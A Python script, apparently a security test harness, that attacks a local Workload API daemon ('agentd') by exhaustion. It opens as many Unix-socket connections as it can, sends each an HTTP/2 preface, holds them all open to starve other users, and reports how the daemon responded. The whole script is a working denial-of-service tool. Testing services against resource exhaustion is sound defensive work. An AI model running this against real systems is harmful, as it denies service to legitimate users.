"""Holds as many Workload API connections as a local user can open, to starve everyone else.

Usage: idle_connections_attacker.py SOCKET COUNT
Opens COUNT connections to SOCKET, each past the HTTP/2 preface (so only agentd's idle timeout,
minutes, could end it), then sees which ones agentd answered and which it closed, prints one
JSON line and holds every connection until it is killed:
  {"connected": n, "held": n, "closed": n, "silent": n, "connect_failures": n}
held: agentd sent its SETTINGS and kept the connection; closed: agentd hung up; silent: neither
within the wait (left in the listen backlog, or accepted and never served).
Python standard library only.
"""
import json
import resource
import select
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"
CONNECT_DEADLINE = 15
ANSWER_DEADLINE = 5


def main():
    path, count = sys.argv[1], int(sys.argv[2])
    # A local user can always raise its own soft limit to the hard one.
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))

    sockets, connected, closed, connect_failures = [], 0, 0, 0
    deadline = time.monotonic() + CONNECT_DEADLINE
    for _ in range(count):
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        # A blocking connect() waits while the listen backlog is full, as a persistent attacker
        # would, but only so long: a server that stopped accepting must not stall the run.
        wait = max(0.05, min(2.0, deadline - time.monotonic()))
        s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO,
                     struct.pack("ll", int(wait), int((wait - int(wait)) * 1e6)))
        try:
            s.connect(path)
        except OSError:
            s.close()
            connect_failures += 1
            continue
        connected += 1
        try:
            s.sendall(PREFACE)
            sockets.append(s)
        except OSError:  # accepted and closed before the preface went out
            s.close()
            closed += 1

    poller = select.poll()
    pending = {}
    for s in sockets:
        poller.register(s.fileno(), select.POLLIN)
        pending[s.fileno()] = s
    held = 0
    deadline = time.monotonic() + ANSWER_DEADLINE
    while pending and time.monotonic() < deadline:
        for fd, _ in poller.poll(100):
            s = pending.pop(fd)
            poller.unregister(fd)
            try:
                answered = len(s.recv(65536)) > 0
            except OSError:
                answered = False
            if answered:
                held += 1
            else:
                closed += 1
    print(json.dumps({"connected": connected, "held": held, "closed": closed, "silent": len(pending),
                      "connect_failures": connect_failures}), flush=True)
    while True:
        time.sleep(3600)


if __name__ == "__main__":
    main()
